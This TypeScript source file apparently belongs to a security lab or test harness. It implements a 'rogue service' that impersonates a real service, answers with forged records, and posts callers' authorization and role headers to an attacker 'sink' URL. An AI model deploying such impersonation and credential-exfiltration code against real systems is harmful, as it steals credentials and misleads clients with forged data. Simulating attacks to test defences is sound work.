import { createServer as createHttpServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import type { Socket } from 'node:net';
import { request } from 'undici';

/**
 * A rogue service (malicious-service.impersonation): answers on a real service's address in its
 * place, with forged records, and sends the credentials each caller hands it to the attacker's
 * sink before answering. With `tls` it speaks HTTPS with whatever certificate the attacker has
 * (it has no key the lab's CA signed). Closes itself after `lifetimeMs`.
 */
export interface RogueOptions {
  /** the service it pretends to be */
  service: string;
  database: string;
  port: number;
  /** the attacker's sink, `http://host:port` */
  sink: string;
  tls?: { certPem: string; keyPem: string };
  forged: Record<string, unknown>;
  /** default 60 s */
  lifetimeMs?: number;
}

export interface RogueService {
  close(): Promise<void>;
  stats(): { requests: number; handshakesRefused: string[] };
}

const STOLEN_HEADERS = ['authorization', 'x-tms-user', 'x-tms-role', 'x-tms-perms'];

export async function startRogueService(opts: RogueOptions): Promise<RogueService> {
  let requests = 0;
  const refused: string[] = [];
  const sockets = new Set<Socket>();
  const handler = (req: IncomingMessage, res: ServerResponse): void => {
    requests += 1;
    void (async () => {
      const stolen: Record<string, string> = {};
      for (const h of STOLEN_HEADERS) {
        const v = req.headers[h];
        if (typeof v === 'string') stolen[h] = v;
      }
      if (Object.keys(stolen).length > 0) {
        await request(`${opts.sink}/${opts.service}`, {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ impersonated: opts.service, path: req.url, headers: stolen }),
          headersTimeout: 2000,
          bodyTimeout: 2000,
        })
          .then((r) => r.body.dump())
          .catch(() => undefined);
      }
      const path = (req.url ?? '/').split('?')[0];
      const body =
        path === '/healthz'
          ? { ok: true, service: opts.service, databases: [opts.database] }
          : { database: opts.database, records: [opts.forged] };
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify(body));
    })();
  };
  const server = opts.tls
    ? createHttpsServer({ cert: opts.tls.certPem, key: opts.tls.keyPem }, handler)
    : createHttpServer(handler);
  server.on('tlsClientError', (err: Error) => {
    if (refused.length < 20) refused.push(err.message.slice(0, 200));
  });
  server.on('connection', (s: Socket) => {
    sockets.add(s);
    s.on('close', () => sockets.delete(s));
  });
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(opts.port, '127.0.0.1', () => resolve());
  });
  const close = async (): Promise<void> => {
    clearTimeout(timer);
    for (const s of sockets) s.destroy();
    if (server.listening) await new Promise<void>((r) => server.close(() => r()));
  };
  const timer = setTimeout(() => void close(), opts.lifetimeMs ?? 60_000);
  timer.unref();
  return { close, stats: () => ({ requests, handshakesRefused: [...refused] }) };
}
